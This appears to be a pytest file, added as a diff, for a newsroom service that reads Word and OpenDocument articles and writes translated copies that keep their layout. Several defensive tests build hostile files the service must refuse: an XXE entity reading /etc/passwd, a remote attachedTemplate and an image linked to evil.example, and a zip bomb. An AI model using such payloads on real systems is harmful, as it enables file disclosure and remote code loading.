@@ -1,0 +1,317 @@
+"""Word and OpenDocument articles: what is read, translated copies that keep the layout, hostile files.
+
+Documents are built in code with python-docx and odfpy; translations go through the copy-model
+packs, so every translated run is exact ("<de> " + the source sentence).
+"""
+
+from __future__ import annotations
+
+import io
+import zipfile
+
+import docx
+import pytest
+from odf.opendocument import OpenDocumentText
+from odf.style import Style, TextProperties
+from odf.text import H, List, ListItem, Note, NoteBody, NoteCitation, P, Span
+
+from service.cli import main
+from service.errors import InvalidInput, TooLarge
+from service.stages.office import Limits, read_office
+from service.stages.documents import read_document
+
+W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
+
+
+def word_article() -> bytes:
+    document = docx.Document()
+    document.add_heading("Harbour strike ends", 0)
+    lead = document.add_paragraph()
+    lead.add_run("Dock workers in Rotterdam ended a strike on Tuesday.").bold = True
+    body = document.add_paragraph("Operators said traffic would be normal by Friday. ")
+    body.add_run("The union").italic = True
+    body.add_run(" accepted a new pay offer.")
+    document.add_heading("Ships diverted", 1)
+    document.add_paragraph("Ships were diverted to Antwerp.", style="List Bullet")
+    table = document.add_table(rows=2, cols=2)
+    for cell, text in zip(table._cells, ["Ships", "12", "Cranes", "40"]):
+        cell.text = text
+    section = document.sections[0]
+    section.header.paragraphs[0].text = "Harbour News"
+    section.footer.paragraphs[0].text = "Page footer"
+    output = io.BytesIO()
+    document.save(output)
+    return output.getvalue()
+
+
+def opendocument_article() -> bytes:
+    document = OpenDocumentText()
+    bold = Style(name="Strong", family="text")
+    bold.addElement(TextProperties(fontweight="bold"))
+    document.automaticstyles.addElement(bold)
+    document.text.addElement(H(outlinelevel=1, text="Harbour strike ends"))
+    paragraph = P(text="Operators said traffic would be normal by Friday. ")
+    paragraph.addElement(Span(stylename=bold, text="The union"))
+    paragraph.addText(" accepted a new pay offer.")
+    note = Note(id="ftn1", noteclass="footnote")
+    note.addElement(NoteCitation(text="1"))
+    note_body = NoteBody()
+    note_body.addElement(P(text="Source: the union's statement."))
+    note.addElement(note_body)
+    paragraph.addElement(note)
+    document.text.addElement(paragraph)
+    items = List()
+    item = ListItem()
+    item.addElement(P(text="Ships were diverted to Antwerp."))
+    items.addElement(item)
+    document.text.addElement(items)
+    output = io.BytesIO()
+    document.write(output)
+    return output.getvalue()
+
+
+def test_a_word_article_is_read_as_lines_with_headers_and_footers_apart():
+    document = read_office("strike.docx", word_article(), limits=Limits())
+    assert document.text == ("Harbour strike ends\n"
+                             "Dock workers in Rotterdam ended a strike on Tuesday.\n"
+                             "Operators said traffic would be normal by Friday. The union accepted a new pay offer.\n"
+                             "Ships diverted\n"
+                             "Ships were diverted to Antwerp.\n"
+                             "Ships | 12\n"
+                             "Cranes | 40")
+    assert document.left_out == ("Header: Harbour News", "Footer: Page footer")
+
+
+def test_an_opendocument_article_keeps_its_footnote_apart():
+    document = read_office("strike.odt", opendocument_article(), limits=Limits())
+    assert document.text == ("Harbour strike ends\n"
+                             "Operators said traffic would be normal by Friday. The union accepted a new pay offer.\n"
+                             "Ships were diverted to Antwerp.")
+    assert document.left_out == ("Footnote: Source: the union's statement.",)
+
+
+def test_word_footnotes_and_comments_are_kept_apart():
+    data = _with_parts(word_article(), {
+        "word/footnotes.xml": (
+            '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+            '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:t>---</w:t></w:r></w:p></w:footnote>'
+            '<w:footnote w:id="1"><w:p><w:r><w:t>Figures from the port authority.</w:t></w:r></w:p></w:footnote>'
+            '</w:footnotes>'),
+        "word/comments.xml": (
+            '<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+            '<w:comment w:id="0" w:author="Desk"><w:p><w:r><w:t>Check the date.</w:t></w:r></w:p></w:comment>'
+            '</w:comments>')})
+    document = read_office("strike.docx", data, limits=Limits())
+    assert document.left_out == ("Header: Harbour News", "Footer: Page footer",
+                                 "Footnote: Figures from the port authority.", "Comment (Desk): Check the date.")
+    assert "port authority" not in document.text
+
+
+@pytest.fixture
+def cli(settings, monkeypatch, install, tmp_path):
+    monkeypatch.setenv("NEWSDESK_PACKAGES_DIR", str(settings.packages_dir))
+    monkeypatch.setenv("NEWSDESK_LANGPACKS_DIR", str(settings.langpacks_dir))
+    install("en_de", "en_ar")
+    return tmp_path
+
+
+def test_newsdesk_process_writes_a_translated_word_copy_that_keeps_styles_and_runs(cli, capsys):
+    source = cli / "strike.docx"
+    source.write_bytes(word_article())
+    assert main(["process", str(source), "--to", "de,ar", "--summary", "1"]) == 0
+    written = capsys.readouterr().out.split()
+    assert [name.rsplit("/", 1)[-1] for name in written] == [
+        "strike.de.md", "strike.ar.md", "strike.de.docx", "strike.de.summary.docx", "strike.ar.docx",
+        "strike.ar.summary.docx", "strike.newsdesk.json"]
+    copy = docx.Document(str(cli / "strike.de.docx"))
+    assert [(p.style.name, [(r.text, r.bold, r.italic) for r in p.runs]) for p in copy.paragraphs] == [
+        ("Title", [("<de> Harbour strike ends", None, None)]),
+        ("Normal", [("<de> Dock workers in Rotterdam ended a strike on Tuesday.", True, None)]),
+        # "The union" starts its sentence: its own translation is found there and stays italic.
+        ("Normal", [("<de> Operators said traffic would be normal by Friday. ", None, None),
+                    ("<de> The union", None, True), (" accepted a new pay offer.", None, None)]),
+        ("Heading 1", [("<de> Ships diverted", None, None)]),
+        ("List Bullet", [("<de> Ships were diverted to Antwerp.", None, None)]),
+    ]
+    assert [cell.text for cell in copy.tables[0]._cells] == ["<de> Ships", "<de> 12", "<de> Cranes", "<de> 40"]
+    assert copy.sections[0].header.paragraphs[0].text == "<de> Harbour News"
+    assert not copy.paragraphs[1]._p.xpath("./w:pPr/w:bidi")
+    arabic = docx.Document(str(cli / "strike.ar.docx"))
+    assert all(p._p.xpath("./w:pPr/w:bidi") for p in arabic.paragraphs)
+    assert all(run.font.rtl for p in arabic.paragraphs for run in p.runs)
+    summary = docx.Document(str(cli / "strike.de.summary.docx"))
+    assert [(p.style.name, p.text) for p in summary.paragraphs] == [
+        ("Title", "<de> Harbour strike ends"), ("Heading 1", "Summary"),
+        ("List Bullet", "<de> Dock workers in Rotterdam ended a strike on Tuesday.")]
+    assert (cli / "strike.de.md").read_text().startswith("# <de> Harbour strike ends\n")
+
+
+def test_newsdesk_process_writes_a_translated_opendocument_copy(cli, capsys):
+    from lxml import etree
+
+    source = cli / "strike.odt"
+    source.write_bytes(opendocument_article())
+    assert main(["process", str(source), "--to", "ar", "--summary", "1"]) == 0
+    capsys.readouterr()
+    copy = (cli / "strike.ar.odt").read_bytes()
+    package = zipfile.ZipFile(io.BytesIO(copy))
+    assert package.namelist()[0] == "mimetype" and package.getinfo("mimetype").compress_type == zipfile.ZIP_STORED
+    content = etree.fromstring(package.read("content.xml"))
+    ns = {"text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
+          "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0"}
+    paragraph = content.find(".//text:p", ns)
+    assert paragraph.text == "<ar> Operators said traffic would be normal by Friday. "
+    span = paragraph.find("text:span", ns)
+    assert (span.get(f"{{{ns['text']}}}style-name"), span.text, span.tail) == (
+        "Strong", "<ar> The union", " accepted a new pay offer.")
+    assert paragraph.find("text:note/text:note-body/text:p", ns).text == "Source: the union's statement."
+    style = paragraph.get(f"{{{ns['text']}}}style-name")
+    properties = content.find(f".//style:style[@style:name='{style}']/style:paragraph-properties", ns)
+    assert properties.get(f"{{{ns['style']}}}writing-mode") == "rl-tb"
+    assert read_office("copy.odt", copy, limits=Limits()).text == (
+        "<ar> Harbour strike ends\n"
+        "<ar> Operators said traffic would be normal by Friday. <ar> The union accepted a new pay offer.\n"
+        "<ar> Ships were diverted to Antwerp.")
+    assert read_office("summary.odt", (cli / "strike.ar.summary.odt").read_bytes(), limits=Limits()).text == (
+        "<ar> Harbour strike ends\nSummary\n<ar> Operators said traffic would be normal by Friday.")
+
+
+def test_a_span_whose_translation_is_not_in_the_sentence_leaves_the_sentence_in_one_formatting():
+    from service.stages.office.word import translate_word
+
+    document = docx.Document()
+    paragraph = document.add_paragraph("The talks with ")
+    paragraph.add_run("the port authority").bold = True
+    paragraph.add_run(" resumed on Monday.")
+    output = io.BytesIO()
+    document.save(output)
+    copy = translate_word(output.getvalue(), name="a.docx", limits=Limits(), right_to_left=False,
+                          translate=lambda texts: [f"[{text}]" for text in texts], split=lambda text: [text])
+    runs = docx.Document(io.BytesIO(copy)).paragraphs[0].runs
+    assert [(run.text, run.bold) for run in runs] == [("[The talks with the port authority resumed on Monday.]", None)]
+
+
+def _with_parts(data: bytes, replaced: dict[str, str | bytes]) -> bytes:
+    source = zipfile.ZipFile(io.BytesIO(data))
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
+        for info in source.infolist():
+            if info.filename not in replaced:
+                archive.writestr(info, source.read(info))
+        for part, content in replaced.items():
+            archive.writestr(part, content)
+    return output.getvalue()
+
+
+def test_a_zip_bomb_is_refused_before_it_is_unpacked():
+    bomb = _with_parts(word_article(), {"word/media/padding.bin": b"\0" * 5_000_000})
+    with pytest.raises(TooLarge) as refused:
+        read_office("bomb.docx", bomb, limits=Limits())
+    size = sum(info.file_size for info in zipfile.ZipFile(io.BytesIO(bomb)).infolist())
+    assert str(refused.value) == (
+        f"bomb.docx unpacks to {size:,} bytes; a Word file this size may unpack to {100 * len(bomb):,} "
+        "(NEWSDESK_MAX_DOCUMENT_UNPACKED_BYTES, and 100 times its own size): it looks like a zip bomb; save the "
+        "document again, or send the text")
+
+
+def test_xml_entities_are_refused():
+    original = zipfile.ZipFile(io.BytesIO(word_article())).read("word/document.xml").decode()
+    hostile = original.replace("<w:document", '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+                                              "<w:document", 1)
+    with pytest.raises(InvalidInput) as refused:
+        read_office("xxe.docx", _with_parts(word_article(), {"word/document.xml": hostile}), limits=Limits())
+    assert str(refused.value) == (
+        "xxe.docx declares XML entities in word/document.xml (a DOCTYPE), which Word and LibreOffice never write "
+        "and attacks use to read files: save the document again from Word or LibreOffice")
+
+
+def test_a_link_to_an_outside_template_is_refused_but_hyperlinks_are_not():
+    rels = zipfile.ZipFile(io.BytesIO(word_article())).read("word/_rels/document.xml.rels").decode()
+    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+    link = (f'<Relationship Id="rId90" Type="{base}hyperlink" Target="https://example.org/" '
+            'TargetMode="External"/>')
+    template = (f'<Relationship Id="rId91" Type="{base}attachedTemplate" Target="http://evil.example/t.dotm" '
+                'TargetMode="External"/>')
+    fine = _with_parts(word_article(), {"word/_rels/document.xml.rels": rels.replace("</Relationships>",
+                                                                                      link + "</Relationships>")})
+    assert read_office("links.docx", fine, limits=Limits()).text.startswith("Harbour strike ends\n")
+    hostile = _with_parts(word_article(), {"word/_rels/document.xml.rels": rels.replace(
+        "</Relationships>", template + "</Relationships>")})
+    with pytest.raises(InvalidInput) as refused:
+        read_office("template.docx", hostile, limits=Limits())
+    assert str(refused.value) == (
+        "template.docx links to an outside file as its attachedTemplate (http://evil.example/t.dotm); newsdesk "
+        "never fetches anything: save the document with that file embedded, or without it")
+
+
+def test_an_opendocument_picture_from_outside_is_refused():
+    content = zipfile.ZipFile(io.BytesIO(opendocument_article())).read("content.xml").decode()
+    frame = ('<draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+             'xmlns:xlink="http://www.w3.org/1999/xlink"><draw:image xlink:href="http://evil.example/p.png"/>'
+             '</draw:frame>')
+    hostile = content.replace("</text:h>", frame + "</text:h>", 1)
+    with pytest.raises(InvalidInput) as refused:
+        read_office("picture.odt", _with_parts(opendocument_article(), {"content.xml": hostile}), limits=Limits())
+    assert str(refused.value) == (
+        "picture.odt links to an outside file as its image (http://evil.example/p.png) in content.xml; newsdesk "
+        "never fetches anything: save the document with that file embedded, or without it")
+
+
+@pytest.mark.parametrize("name, data, message", [
+    ("notes.docx", b"plain text, not a zip", "notes.docx is not a readable Word file (it is not the zip archive "
+     "such files are): open it and save it again, or paste the article's text"),
+    ("notes.odt", b"plain text, not a zip", "notes.odt is not a readable OpenDocument file (it is not the zip "
+     "archive such files are): open it and save it again, or paste the article's text"),
+])
+def test_a_file_that_is_not_a_document_gets_a_message(name, data, message):
+    with pytest.raises(InvalidInput) as refused:
+        read_document(name, data)
+    assert str(refused.value) == message
+
+
+def test_a_spreadsheet_renamed_odt_is_refused():
+    spreadsheet = _with_parts(opendocument_article(), {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"})
+    with pytest.raises(InvalidInput, match=r"^sheet.odt is not an OpenDocument text \(.odt\): save it as .odt"):
+        read_document("sheet.odt", spreadsheet)
+
+
+def test_document_size_and_paragraph_limits(settings):
+    data = word_article()
+    with pytest.raises(TooLarge) as refused:
+        read_office("strike.docx", data, limits=Limits(max_bytes=1000))
+    assert str(refused.value) == (f"strike.docx has {len(data):,} bytes; the limit for a document is 1,000 "
+                                  "(NEWSDESK_MAX_DOCUMENT_BYTES): save it without its pictures, or send the text")
+    with pytest.raises(TooLarge) as refused:
+        read_office("strike.docx", data, limits=Limits(max_paragraphs=3))
+    assert str(refused.value) == ("strike.docx has more than 3 paragraphs; the limit is 3 "
+                                  "(NEWSDESK_MAX_DOCUMENT_PARAGRAPHS): split it")
+    with pytest.raises(TooLarge, match="^strike.odt has more than 2 paragraphs"):
+        read_office("strike.odt", opendocument_article(), limits=Limits(max_paragraphs=2))
+
+
+def test_a_link_keeps_its_address_in_the_translated_copy():
+    from docx.opc.constants import RELATIONSHIP_TYPE
+    from docx.oxml import OxmlElement
+    from docx.oxml.ns import qn
+
+    from service.stages.office.word import translate_word
+
+    document = docx.Document()
+    paragraph = document.add_paragraph("Read the statement. ")
+    link = OxmlElement("w:hyperlink")
+    link.set(qn("r:id"), paragraph.part.relate_to("https://example.org/statement", RELATIONSHIP_TYPE.HYPERLINK,
+                                                  is_external=True))
+    run, text = OxmlElement("w:r"), OxmlElement("w:t")
+    text.text = "The full text is online."
+    run.append(text)
+    link.append(run)
+    paragraph._p.append(link)
+    output = io.BytesIO()
+    document.save(output)
+    copy = translate_word(output.getvalue(), name="a.docx", limits=Limits(), right_to_left=False,
+                          translate=lambda texts: [f"<de> {text}" for text in texts],
+                          split=lambda text: [part.strip() + "." for part in text.split(".") if part.strip()])
+    translated = docx.Document(io.BytesIO(copy)).paragraphs[0]
+    assert translated.text == "<de> Read the statement. <de> The full text is online."
+    assert [(link.text, link.url) for link in translated.hyperlinks] == [
+        ("<de> The full text is online.", "https://example.org/statement")]
